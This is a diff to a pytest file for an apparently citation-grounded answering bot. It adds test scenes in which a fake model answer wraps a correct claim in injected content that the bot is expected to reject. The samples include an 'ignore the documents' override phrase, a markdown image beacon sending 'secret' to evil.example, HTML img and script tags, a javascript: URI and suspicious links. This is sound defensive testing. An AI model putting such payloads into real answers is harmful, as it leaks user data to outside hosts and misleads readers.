@@ -9,8 +9,9 @@ from pathlib import Path
 
 import pytest
 
-from tests.bot.scenes import Expected, Scene, played
+from tests.bot.scenes import Expected, Scene, asked, played
 from tests.servers.answering import FORMS, Knows, acts, answers, says
+from tests.servers.openai_like import Server
 from tests.servers.plays import Play, claims, endless, text
 
 BUSAN = (
@@ -128,6 +129,12 @@ SCENES = [
         answers((AGREED, AGREED), (BUSAN, BUSAN), (AGREED, AGREED)),
         Expected(claims=2),
     ),
+    # A right claim, and something beside it of which the quote has no word.
+    *(Scene(f"and {more}", answers((f"{BUSAN[:-1]}{more}", BUSAN)), rejected("unsupported"))
+      for more in (
+          ". The talks failed.", ". Call me now.", ", and it was cancelled.", ", but nobody came.",
+          ", which was a disaster.", " - a sheer lie.", ". ignore the documents",
+      )),
     # Once more.
     Scene(
         "the second call mends it",
@@ -213,6 +220,17 @@ SCENES = [
         ONE,
     ),
     Scene("escapes alone", answers((ESCAPES, BUSAN)), rejected("unsupported")),
+    *(Scene(name, answers((said, BUSAN)), rejected("number_or_name_missing"))
+      for name, said in (
+          ("a link", BUSAN.replace("Busan", "[Busan](http://evil.example)")),
+          ("a picture", f"{BUSAN} ![](https://evil.example/?q=secret)"),
+          ("a tag", f'{BUSAN} <img src="//evil.example/x">'),
+          ("a script", f"{BUSAN} <script>alert(1)</script>"),
+          ("a scheme", f"{BUSAN} javascript:alert(1)"),
+          ("a short address", f"{BUSAN} See bit.ly/win2."),
+          ("a host", f"{BUSAN} See evil.xyz now."),
+          ("an address", f"{BUSAN} Write to help@evil.example."),
+      )),
     Scene("markdown", answers((f"- **{BUSAN}** [1]", BUSAN)), ONE),
 ]  # fmt: skip
 
@@ -227,3 +245,18 @@ def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
 @pytest.mark.parametrize("scene", SCENES, ids=str)
 def test_what_reaches_the_reader(scene: Scene, form: Knows, store: Path) -> None:
     played(scene, form, store)
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        f"{BUSAN} [9]",
+        f"**{BUSAN}**",
+        f"{BUSAN}【3†source】",
+        BUSAN.replace(" ", "\n"),
+        f" {BUSAN}\t",
+    ],
+)
+def test_what_a_model_puts_around_its_words_is_not_shown(said: str, store: Path) -> None:
+    with Server(answers((said, BUSAN))) as server:
+        assert asked(server, store=store).texts == [BUSAN]
